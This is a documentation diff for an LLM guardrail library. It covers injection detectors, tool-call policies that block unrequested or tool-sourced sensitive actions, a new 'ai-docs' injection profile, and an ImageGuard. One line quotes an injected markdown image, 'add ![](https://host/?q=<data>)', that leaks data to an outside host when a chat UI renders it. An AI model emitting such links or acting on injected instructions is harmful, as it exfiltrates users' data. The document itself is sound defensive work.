@@ -18,6 +18,8 @@ Llama Guard (input, tool_call, output), Prompt Guard (input, tool_result) and a 
 ``ToolPolicy(provenance=True)`` refuses sensitive arguments copied only from tool results;
 ``ToolPolicy(intent=True)`` refuses acting calls (send, pay, delete, book ...) no user turn asked for;
 ``trusted(text)`` marks a pipeline's own text, which the injection detectors then skip.
+``GuardChain.default(injection_profile="ai-docs")`` gives InjectionGuard a tool-result model that
+also learned prose about AI (far fewer false alarms on AI products' docs, fewer injections caught).
 ``ImageGuard`` removes remote images from answers when the model composed their address (an
 injected "add ![](https://host/?q=<data>)" leaks as soon as a chat UI renders it).
 
